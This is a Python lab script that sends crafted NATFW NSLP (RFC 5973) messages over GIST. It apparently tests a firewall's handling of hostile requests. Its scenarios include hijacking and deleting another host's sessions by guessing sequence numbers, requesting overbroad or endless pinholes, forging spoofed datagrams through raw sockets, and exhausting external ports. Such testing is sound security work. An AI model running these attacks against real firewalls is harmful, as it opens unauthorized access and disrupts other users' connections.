#!/usr/bin/env python3
"""An initiator of the NATFW NSLP (RFC 5973) over datagrams of GIST that sends whatever a scenario wants.

    natfw.py KIND ARGUMENT ...

The kinds are the functions at the end. Each prints one line for each request: what was tried, and class and code of the
answer. It runs in the network namespaces of the lab only: it needs a raw socket, and the port of GIST.
"""

import json
import select
import socket
import struct
import subprocess
import sys
import time

import attack
from attack import CONFIRM, DATA, GIST, QUERY, RESPONSE, UDP, gist, ip, nli, packet, rng, udp

NATFW = 33
CREATE, EXTERNAL, ANSWER, NOTIFY = 1, 2, 3, 4
LIFETIME, ACTION, INFO, NUMBER, TERMINAL = 0x0C, 0x0F, 0x10, 0x12, 0x13
ALLOW, DENY = 1, 2
LONGEST = 0xFFFFFFFF
CLOSE = 271  # the port at which `many` waits for `close`
SCOPED = 0x80  # S: the source of the packet is the node's own address


def flow(src, sport, dst, dport, src_prefix=32, dst_prefix=32, protocol=UDP):
    """A path-coupled MRI, downstream; ports that are None are left out."""
    flags = 0x4000 | (0x0800 if protocol else 0) | (0x80 if sport else 0) | (0x40 if dport else 0)
    octets = struct.pack("!BxH4s4sBBBx", 0, flags, ip(src), ip(dst), src_prefix, dst_prefix, protocol)
    return octets + (struct.pack("!HH", sport or 0, dport or 0) if sport or dport else b"")


def loose(receiver, towards):
    """A loose-end MRI for a receiver."""
    return struct.pack("!BxH4s4s", 1, 0x4000, ip(receiver), ip(towards))


def message(kind, *objects):
    body = b"".join(struct.pack("!HH", number, len(value) // 4) + value for number, value in objects)
    return struct.pack("!BBH", kind, 0, 0) + body


def word(value):
    return struct.pack("!I", value)


def create(number, lifetime=60, action=ALLOW):
    return message(CREATE, (LIFETIME, word(lifetime)), (NUMBER, word(number)), (ACTION, struct.pack("!HH", action, 0)))


def external(number, port, lifetime=60, action=ALLOW):
    """An EXTERNAL for a port of UDP, from all senders."""
    terminal = struct.pack("!HBBHHI", 0xC000, 0, UDP, port, 0, 0)
    return message(
        EXTERNAL,
        (LIFETIME, word(lifetime)),
        (NUMBER, word(number)),
        (ACTION, struct.pack("!HH", action, 0)),
        (TERMINAL, terminal),
    )


def answer(number, info=0x02010000, lifetime=60):
    return message(ANSWER, (LIFETIME, word(lifetime)), (NUMBER, word(number)), (INFO, word(info)))


def objects_of(octets, at):
    found = {}
    while at + 4 <= len(octets):
        kind, words = struct.unpack("!HH", octets[at : at + 4])
        found[kind & 0xFFF] = octets[at + 4 : at + 4 + (words & 0xFFF) * 4]
        at += 4 + (words & 0xFFF) * 4
    return found


class Node:
    """This node: its sockets, and messages that came for its sessions."""

    def __init__(self, own):
        self.own, self.identity = ip(own), rng.randbytes(4)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for kind in (socket.SO_RCVBUF, socket.SO_SNDBUF):
            self.udp.setsockopt(socket.SOL_SOCKET, kind, 4 << 20)
        self.udp.bind(("", GIST))
        self.udp.setblocking(False)

    def received(self, wait):
        """The messages that have come or come within this time: peer, type, objects."""
        select.select([self.udp], [], [], max(wait, 0))
        while True:
            try:
                octets, (peer, _) = self.udp.recvfrom(4096)
            except BlockingIOError:
                return
            yield peer, octets[10] & 0x7F, objects_of(octets, 12)

    def query(self, session):
        objects = [(0, session.mri), (1, session.id), (2, nli(self.own, self.identity)), (5, rng.randbytes(8))]
        query = gist(QUERY, objects, NATFW, 0x40 | SCOPED)
        self.raw.sendto(packet(self.own, session.towards, UDP, udp(query), alert=True), (socket.inet_ntoa(session.towards), 0))

    def confirm(self, session, peer, cookie):
        session.peer = peer
        objects = [(0, session.mri), (1, session.id), (2, nli(self.own, self.identity)), (6, cookie)]
        self.udp.sendto(gist(CONFIRM, objects, NATFW, SCOPED, 0), (peer, GIST))

    def data(self, session, octets):
        objects = [(0, session.mri), (1, session.id), (2, nli(self.own, self.identity)), (8, octets)]
        self.udp.sendto(gist(DATA, objects, NATFW, SCOPED, 0), (session.peer, GIST))


class Session:
    """A session whose first peer is the one that answers a Query towards an address."""

    def __init__(self, node, mri, towards, session=None):
        self.node, self.mri, self.towards = node, mri, ip(towards)
        self.id, self.peer = session or rng.randbytes(16), None

    def connect(self):
        """Makes routing state; True if a peer answered."""
        for _ in range(5):
            if self.peer:
                return True
            self.node.query(self)
            self.take(RESPONSE, 1)
        return bool(self.peer)

    def take(self, kind, wait):
        """The NSLP data of the next message of this session and type, or of its Response."""
        end = time.monotonic() + wait
        while (left := end - time.monotonic()) > 0:
            for peer, of, objects in self.node.received(left):
                if objects.get(1) != self.id or of != kind:
                    continue
                if kind == DATA:
                    return objects.get(8, b"")
                if 6 in objects:
                    self.node.confirm(self, peer, objects[6])
                    return b""
        return None

    def ask(self, octets, wait=5):
        """Sends a message, and returns class and code of the answer to its number."""
        if not self.connect():
            return "no peer"
        self.node.data(self, octets)
        number, end = objects_of(octets, 4).get(NUMBER), time.monotonic() + wait
        while (data := self.take(DATA, end - time.monotonic())) is not None:
            objects = objects_of(data, 4)
            if data[0] == ANSWER and INFO in objects and objects.get(NUMBER) == number:
                (info,) = struct.unpack("!I", objects[INFO])
                return f"{info >> 24 & 15}/{info >> 16 & 255:#04x}"
        return "no answer"

    def send(self, octets):
        """Sends a message that should have no answer."""
        return self.ask(octets, 0.3)


def report(what, result):
    print(f"{what}: {result}", flush=True)


# The kinds.


def inside(own, victim, far, command):
    """A host inside attacks other hosts inside, and the flow of one of them. It knows all that the firewall knows."""
    node = Node(own)
    rows = subprocess.run([command, "show", "pinholes", "--json"], capture_output=True, text=True, check=True).stdout
    rows = [json.loads(line) for line in rows.splitlines()]
    (row,) = [row for row in rows if row.get("flow", {}).get("source") == victim]
    theirs, stolen = bytes.fromhex(row["session_id"]), flow(victim, 4000, far, 5000)

    def request(mri, octets, session=None):
        return Session(node, mri, far, session).ask(octets)

    report("flow of another host", request(flow(victim, 4100, far, 5100), create(1)))
    report("sources of a prefix", request(flow(own, 4100, far, 5100, src_prefix=24), create(1)))
    report("any source", request(flow("0.0.0.0", 4100, far, 5100, src_prefix=0), create(1)))
    report("any destination port", request(flow(own, None, far, None), create(1)))
    report("any protocol", request(flow(own, None, far, None, protocol=0), create(1)))
    report("destinations of a prefix", request(flow(own, 4100, far, 5100, dst_prefix=24), create(1)))
    report("longest lifetime", request(flow(own, 4101, far, 5101), create(1, LONGEST)))
    report("block by the sender", request(flow(own, 4102, far, 5102), create(1, action=DENY)))
    report("address of another host", request(loose(victim, far), external(1, 8080)))
    report("block for another host", request(loose(victim, far), external(1, 5000, action=DENY)))

    # The firewall has a number of the session that is not known. One of two numbers with this distance is newer.
    def either(mri, request):
        numbers = (1, 1 + (1 << 31))
        answers = {Session(node, mri, far, theirs).ask(request(number), 1.5) for number in numbers}
        return " or ".join(sorted(answers - {"no answer"})) or "no answer"

    report("session of another host", either(stolen, create))
    report("its session for another flow", either(flow(own, 4103, far, 5103), create))
    report("deletion of its session", either(stolen, lambda number: create(number, 0)))
    report("deletion with another flow", either(flow(own, 4103, far, 5103), lambda number: create(number, 0)))
    report("answer for its session", either(stolen, answer))
    report("end of its session", either(stolen, lambda _: message(NOTIFY, (INFO, word(0x01050000)))))
    everything = Session(node, stolen, far, bytes(16))
    report("deletion of all its sessions", everything.ask(create(1, 0)))

    mine = Session(node, flow(own, 4200, far, 5200), far)
    report("own flow", mine.ask(create(10)))
    report("repeated", mine.send(create(10)))
    report("reordered", mine.send(create(9)))
    report("far ahead", mine.send(create((10 + (1 << 31)) & LONGEST)))
    report("next", mine.ask(create(12)))
    report("late", mine.send(create(11)))
    report("late deletion", mine.send(create(11, 0)))
    report("deletion", mine.send(create(13, 0)))
    report("deletion repeated", mine.send(create(13, 0)))
    report("late after the deletion", mine.send(answer(12)))


def outside(own, victim, friend):
    """A host outside attacks a host inside, and forges messages of a host outside that is invited."""
    node = Node(own)

    def request(mri, octets):
        return Session(node, mri, victim).ask(octets)

    report("flow to the inside", request(flow(own, 4000, victim, 8080), create(1)))
    report("from any source", request(flow("0.0.0.0", None, victim, 8080, src_prefix=0), create(1)))
    report("receiver on the wrong side", request(loose(victim, victim), external(1, 8080)))
    count = 0
    for source in (friend, own, victim):
        for port in range(9000, 9100):
            mri = flow(friend, port, victim, 8080)
            objects = [(0, mri), (1, rng.randbytes(16)), (2, nli(ip(source))), (8, create(1, LONGEST))]
            for flags, c in ((0, 0x80), (SCOPED, 0), (0xA0, 0)):
                octets = gist(DATA, objects, NATFW, flags, c)
                node.raw.sendto(packet(ip(source), ip(victim), UDP, udp(octets), alert=c > 0), (victim, 0))
                count += 1
        time.sleep(0.05)
    report("forged datagrams", count)


def ports(own, far, count):
    """A host inside reserves as many external ports as it can."""
    node, results = Node(own), {}
    for port in range(1, int(count) + 1):
        result = Session(node, loose(own, far), far).ask(external(1, port))
        results[result] = results.get(result, 0) + 1
    for result, number in sorted(results.items()):
        report(f"ports with {result}", number)


def many(own, far, ports):
    """Opens a pinhole for each of some destination ports, like 10000+50 for 50 from 10000 on, holds them until `close` is called, and closes them.

    So many sessions are set up at a time that no socket overflows. A step that is not answered is repeated."""
    node, at_once, patience = Node(own), 200, 2
    control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    control.bind((own, CLOSE))
    first, count = map(int, ports.split("+"))
    sessions = [Session(node, flow(own, None, far, first + n), far) for n in range(count)]
    waiting, at_work, begin, granted = list(reversed(sessions)), {}, time.monotonic(), 0

    def step(session):
        if session.peer:
            node.data(session, create(session.number, 3600))
        else:
            node.query(session)
        at_work[session.id] = (session, time.monotonic() + patience)

    while waiting or at_work:
        while waiting and len(at_work) < at_once:
            session = waiting.pop()
            session.number = 1
            step(session)
        for peer, kind, objects in node.received(patience):
            session, _ = at_work.get(objects.get(1), (None, None))
            if session is None:
                continue
            if kind == RESPONSE and 6 in objects and not session.peer:
                node.confirm(session, peer, objects[6])
                step(session)
            elif kind == DATA:
                info = objects_of(objects.get(8, b""), 4).get(INFO, b"")
                if info[:2] != b"\2\1":
                    sys.exit(f"refused: {info.hex()}")
                granted += 1
                del at_work[session.id]
        now = time.monotonic()
        for session, until in list(at_work.values()) if len(at_work) == at_once or not waiting else ():
            if until < now:
                session.number += 1
                step(session)
    took = time.monotonic() - begin
    print(f"{granted} pinholes in {took:.1f} s, {granted / took:.0f} a second", flush=True)
    control.recv(16)
    # Deletions have no answer. A repeated one does nothing.
    for number, session in enumerate(sessions * 2):
        node.data(session, create(session.number + 1, 0))
        if number % 50 == 49:
            time.sleep(0.02)
    print("closed", flush=True)


def close(own):
    """Makes `many` close its pinholes."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"close", (own, CLOSE))


def main():
    attack.rng.seed()
    kind, *rest = sys.argv[1:]
    globals()[kind](*rest)


main()
